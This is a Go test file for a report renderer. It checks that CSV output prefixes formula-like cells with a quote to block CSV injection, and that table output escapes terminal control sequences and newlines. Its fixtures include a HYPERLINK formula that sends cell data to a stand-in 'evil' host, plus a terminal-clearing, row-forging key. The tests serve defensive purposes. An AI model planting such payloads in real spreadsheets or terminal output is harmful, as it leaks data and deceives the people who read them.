package render

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/tollgate/tollgate"
)

// TestCSVNeutralisesFormulas: a text cell a spreadsheet would evaluate gets a leading
// single quote (OWASP CSV injection); numeric cells, even negative, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	r := tollgate.Report{By: "group", Rows: []tollgate.ReportRow{
		{Key: `=HYPERLINK("http://evil/?"&A1,"click")`, Instances: 1, CostUSD: -1.5},
		{Key: "+1+1"}, {Key: "-2+3"}, {Key: "@SUM(A1)"}, {Key: "\tx"}, {Key: "\rx"},
		{Key: "cs61c-s1"},
	}, TotalUSD: -1.5}
	var b bytes.Buffer
	if err := Write(&b, r, FormatCSV); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil/?"&A1,"click")`, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "cs61c-s1"}
	for i, w := range want {
		if got := recs[i+1][0]; got != w {
			t.Errorf("row %d key %q, want %q", i+1, got, w)
		}
	}
	if got := recs[1][3]; got != "-1.5000" {
		t.Errorf("negative cost cell %q, want the number -1.5000", got)
	}
	if got := recs[len(recs)-1]; got[0] != "TOTAL" || got[3] != "-1.5000" {
		t.Errorf("total row %q", got)
	}
}

// TestTableEscapesKeys: a key holding ESC sequences or newlines cannot drive the
// terminal or forge a row of the table.
func TestTableEscapesKeys(t *testing.T) {
	r := tollgate.Report{By: "group", Rows: []tollgate.ReportRow{{Key: "s1\x1b[2J\nTOTAL  0  0.0  0.00"}}}
	var b bytes.Buffer
	if err := Write(&b, r, FormatTable); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.Contains(out, "\x1b") {
		t.Errorf("table holds a raw ESC:\n%q", out)
	}
	n := 0
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "TOTAL") {
			n++
		}
	}
	if n != 1 || !strings.Contains(out, `s1\x1b[2J\nTOTAL`) {
		t.Errorf("table lets a key forge a row (%d TOTAL):\n%s", n, out)
	}
}
